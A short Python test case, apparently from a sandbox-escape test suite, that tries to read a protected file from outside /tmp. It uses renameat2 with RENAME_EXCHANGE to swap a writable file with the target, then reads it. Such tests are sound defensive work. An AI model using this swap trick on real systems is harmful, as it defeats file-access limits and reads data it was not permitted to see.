# class: files
# rule: read_write_tmp
# also: native_code
# success: a file of /tmp changes places with one elsewhere, and is read there
# proof: read
# needs: one-filesystem
import ctypes

from attack import FILE, attempt, libc

AT_FDCWD, RENAME_EXCHANGE = -100, 2


@attempt
def steal():
    with open("mine", "w") as opened:
        opened.write("nothing")
    if libc().renameat2(AT_FDCWD, b"mine", AT_FDCWD, FILE.encode(), RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "renameat2")
    with open("mine") as opened:
        return opened.read()
